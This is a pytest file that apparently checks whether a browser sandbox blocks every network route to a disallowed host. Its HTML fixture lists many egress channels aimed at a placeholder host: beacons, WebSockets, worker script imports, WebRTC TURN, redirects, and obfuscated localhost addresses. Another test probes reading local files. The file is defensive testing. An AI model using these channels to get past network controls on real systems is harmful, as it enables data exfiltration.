"""A page tries every way out it has; the forbidden host must not hear of any. Interception misses six of these."""

import asyncio
import socket
from collections.abc import Callable, Iterator

import pytest

from contracts.execution import FailureCode
from runtime.browser.failure import BrowserFailure
from runtime.browser.pool import Lease
from tests.support.site import Site

pytestmark = pytest.mark.asyncio(loop_scope="session")

ESCAPES = """<!doctype html><title>escapes</title>
<img src="http://BAD/img"><img src="/go?to=http://BAD/img-by-redirect"><iframe src="http://BAD/frame"></iframe>
<iframe src="/go?to=http://BAD/frame-by-redirect"></iframe><link rel=stylesheet href="http://BAD/style">
<link rel=preconnect href="http://BAD"><link rel=prefetch href="http://BAD/prefetch">
<link rel=icon href="http://BAD/icon">
<script src="http://BAD/script"></script><form id=form action="http://BAD/form" target=hole></form>
<iframe name=hole></iframe>
<a id=ping href="#" ping="http://BAD/ping">.</a><a id=popup href="http://BAD/popup" target=_blank>.</a>
<script>
const quiet = promise => promise.catch(() => 0), open = {mode: "no-cors"};
quiet(fetch("http://BAD/fetch", open)); quiet(fetch("/go?to=http://BAD/fetch-by-redirect", open));
quiet(fetch("http://LOCAL/by-name", open)); quiet(fetch("http://[::ffff:127.0.0.1]:PORT/by-ipv6", open));
quiet(fetch("http://2130706433:PORT/by-number", open));
const request = new XMLHttpRequest(); request.open("GET", "http://BAD/xhr"); request.send();
navigator.sendBeacon("http://BAD/beacon", "x"); new EventSource("http://BAD/events");
new WebSocket("ws://BAD/socket");
const code = `new WebSocket("ws://BAD/socket-of-worker"); fetch("http://BAD/fetch-of-worker", {mode: "no-cors"});
  importScripts("http://BAD/import-of-worker")`;
new Worker(URL.createObjectURL(new Blob([code])));
new SharedWorker(URL.createObjectURL(new Blob([code])));
navigator.serviceWorker && quiet(navigator.serviceWorker.register("/worker.js"));
window.open("http://BAD/window"); form.submit(); ping.click(); popup.click();
const peer = new RTCPeerConnection({iceServers: [{urls: "stun:BAD"},
  {urls: "turn:BAD?transport=tcp", username: "a", credential: "b"},
  {urls: "turn:BAD", username: "a", credential: "b"}]});
peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
quiet(Promise.resolve().then(() => new WebTransport("https://BAD/transport").ready));
addEventListener("pagehide", () => { fetch("http://BAD/keepalive", {keepalive: true, ...open});
  navigator.sendBeacon("http://BAD/beacon-at-the-end", "x"); });
</script>"""


async def until(fact: Callable[[], bool]) -> None:
    async with asyncio.timeout(60):
        while not fact():  # noqa: ASYNC110 — the site tells nobody
            await asyncio.sleep(0.05)


@pytest.fixture
def packets(elsewhere: Site) -> Iterator[socket.socket]:
    """Hears the datagrams sent to the forbidden host."""
    host, port = elsewhere.host.split(":")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind((host, int(port)))
        ear.settimeout(0)
        yield ear


async def test_nothing_leaves_for_a_host_that_is_not_allowed(
    lease: Lease, site: Site, elsewhere: Site, packets: socket.socket
) -> None:
    port = elsewhere.host.split(":")[1]
    html = ESCAPES.replace("BAD", elsewhere.host).replace("LOCAL", f"localhost:{port}").replace("PORT", port)
    site.pages |= {"/escapes": html, "/worker.js": "", "/calm": "calm"}
    elsewhere.connections.clear()
    page = await lease.open_page("node-1")
    await page.open_url(site.url("/escapes"))
    await until(lambda: f"/go?to=http://{elsewhere.host}/fetch-by-redirect" in site.requests)
    await asyncio.sleep(1.0)
    await page.open_url(site.url("/calm"))
    await asyncio.sleep(0.5)
    assert elsewhere.requests == []
    assert elsewhere.connections == []
    with pytest.raises(BlockingIOError):
        packets.recv(2_000)


@pytest.mark.parametrize(
    "way", ["http://{bad}/x", "http://{good}/go?to=http://{bad}/x", "http://{good}/go?to=http://localhost:{port}/x"]
)
async def test_going_there_is_refused_by_name(lease: Lease, site: Site, elsewhere: Site, way: str) -> None:
    page = await lease.open_page("node-1")
    port = elsewhere.host.split(":")[1]
    with pytest.raises(BrowserFailure) as caught:
        await page.open_url(way.format(good=site.host, bad=elsewhere.host, port=port))
    assert caught.value.code is FailureCode.HOST_REFUSED
    assert port in caught.value.message
    assert "STAGEDOOR_RUNTIME_ALLOWED_HOSTS" in caught.value.hint


@pytest.mark.usefixtures("playwright_first")
async def test_a_link_that_leads_there_is_refused_by_the_next_action(lease: Lease, site: Site, elsewhere: Site) -> None:
    site.pages["/link"] = f"<a id=out href='http://{elsewhere.host}/'>out</a>"
    page = await lease.open_page("node-1")
    await page.open_url(site.url("/link"))
    await page.click("#out")
    with pytest.raises(BrowserFailure) as caught:
        await page.click("h1", timeout_s=4)
    assert caught.value.code is FailureCode.HOST_REFUSED
    assert elsewhere.host in caught.value.message
    assert elsewhere.requests == []


async def test_local_files_are_out_of_reach_of_a_page(lease: Lease, site: Site) -> None:
    site.pages["/file"] = "<a id=f href='file:///etc/hostname'>f</a><iframe src='file:///etc/hostname'></iframe>"
    page = await lease.open_page("node-1")
    await page.open_url(site.url("/file"))
    await page.click("#f")
    await asyncio.sleep(0.2)
    assert page.url == site.url("/file")


async def test_the_site_that_is_allowed_is_reached_by_every_way(lease: Lease, site: Site) -> None:
    site.requests.clear()
    site.pages["/all"] = """<img src=/i><iframe src=/f></iframe><script>fetch('/x');
      new WebSocket(`ws://${location.host}/ws`)</script>"""
    page = await lease.open_page("node-1")
    await page.open_url(site.url("/all"))
    await until(lambda: {"/all", "/i", "/f", "/x", "/ws"} <= set(site.requests))
